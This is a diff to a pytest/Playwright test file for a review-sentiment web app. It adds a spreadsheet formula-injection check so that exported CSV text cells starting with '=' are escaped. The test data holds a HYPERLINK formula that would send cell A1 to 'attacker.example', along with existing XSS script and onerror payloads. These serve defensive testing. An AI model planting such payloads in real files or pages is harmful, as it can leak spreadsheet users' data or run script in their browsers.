@@ -30,6 +30,9 @@ FLAGS = [
     "--disable-component-update", "--no-first-run", "--disable-sync",
 ]  # fmt: skip
 XSS = ["<script>alert('xss')</script> terrible service", "<img src=x onerror=alert(2)> so bad"]
+# A text a spreadsheet would run as a formula, were it written as it is.
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1, "click me") worst airline'
+
 WEEK = {"entity": "northwind-air", "freq": "week", "since": "2025-06-02", "until": "2025-08-31"}
 
 sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright for Python is missing")
@@ -56,7 +59,7 @@ def site(tmp_path_factory: pytest.TempPathFactory, chromium_path: str) -> Iterat
     with serving(url) as base:
         documents = [
             {"external_id": f"xss-{i}", "text": text, "created_at": "2025-07-16T12:00:00Z"}
-            for i, text in enumerate(XSS)
+            for i, text in enumerate([*XSS, FORMULA])
         ]
         pushed = httpx.post(
             f"{base}/api/v1/documents", headers={"X-API-Key": key}, timeout=30,
@@ -256,6 +259,10 @@ def test_chart_png_and_documents_csv_downloads(page: Any, site: str, tmp_path: P
     rows = list(csv.DictReader(path.open()))
     assert {r["voice"] for r in rows} == {"corporate", "public"}
     assert any(r["text"] == XSS[0] for r in rows)
+    # Formula injection (OWASP): a text cell that starts like a formula is written as text.
+    assert any(r["text"] == "'" + FORMULA for r in rows)
+    assert not any(r[k].startswith(("=", "+", "@")) for r in rows for k in r if k != "compound")
+    assert any(r["compound"].startswith("-") for r in rows)  # numbers stay numbers
 
 
 def test_a_repeat_load_of_unchanged_data_transfers_almost_nothing(page: Any, site: str) -> None:
